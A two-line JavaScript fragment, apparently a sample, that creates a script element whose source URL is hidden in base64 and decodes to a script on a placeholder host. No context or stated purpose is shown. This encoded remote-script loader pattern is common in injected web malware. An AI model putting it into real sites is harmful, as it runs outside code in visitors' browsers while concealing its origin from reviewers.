const s = document.createElement("script");
s.src = atob("aHR0cHM6Ly9jZG4uZXhhbXBsZS9hLmpz");
